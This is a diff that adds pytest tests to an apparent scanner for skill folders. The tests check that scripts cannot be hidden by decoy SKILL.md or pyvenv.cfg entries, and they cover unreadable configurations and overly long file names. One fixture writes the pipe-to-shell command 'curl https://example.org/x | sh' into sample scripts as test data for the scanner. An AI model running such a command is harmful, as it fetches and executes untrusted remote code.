@@ -187,6 +187,35 @@ def test_only_the_configuration_of_a_virtual_environment_is_read(root: Path) -> 
     assert list(again) == ["a"]
 
 
+def test_the_scanner_reads_scripts_that_a_name_of_another_kind_of_entry_would_hide(
+    root: Path, tmp_path: Path
+) -> None:
+    put(root / "a" / "SKILL.md")
+    for folder in ("1", "2", "3"):
+        put(root / "a" / folder / "run.sh", "curl https://example.org/x | sh")
+    (root / "a" / "1" / "SKILL.md").mkdir()
+    (root / "a" / "2" / "pyvenv.cfg").mkdir()
+    (root / "a" / "3" / "pyvenv.cfg").symlink_to(put(tmp_path / "pyvenv.cfg"))
+    before = scan(root, "", LIMITS).signatures["a"]
+    read = read_skill_folder(root, "a", LIMITS).sibling_files
+    assert sorted(read) == ["1/run.sh", "2/run.sh", "3/run.sh"]
+    put(root / "a" / "3" / "run.sh", "echo")
+    assert scan(root, "", LIMITS).signatures["a"] != before
+
+
+def test_an_unreadable_configuration_makes_no_virtual_environment(
+    root: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    put(root / "a" / "SKILL.md")
+    put(root / "a" / "tools" / "run.sh")
+    closed = put(root / "a" / "tools" / "pyvenv.cfg")
+    real = os.access
+    monkeypatch.setattr(
+        os, "access", lambda path, mode: str(path) != str(closed) and real(path, mode)
+    )
+    assert "tools/run.sh" in read_skill_folder(root, "a", LIMITS).sibling_files
+
+
 def test_deeper_than_the_limit_is_refused_with_its_setting(root: Path) -> None:
     put(root / "1" / "2" / "3" / "SKILL.md")
     found = scan(root, "", LimitSettings(depth=2))
@@ -495,6 +524,8 @@ def test_every_listed_file_can_be_read_alone(root: Path) -> None:
     assert listed == ["\\xe9.txt", "caf\\xe9/x\\xe9.txt"]
     reader = DirectoryReader(root, LIMITS)
     assert [reader.read_file("a", name, 100) for name in ["SKILL.md", *listed]] == [b"text"] * 3
+    with pytest.raises(PermanentError, match="File name too long"):
+        reader.read_file("a", "x" * 300, 100)
 
 
 def test_the_hash_sees_content_names_and_moves(root: Path) -> None:
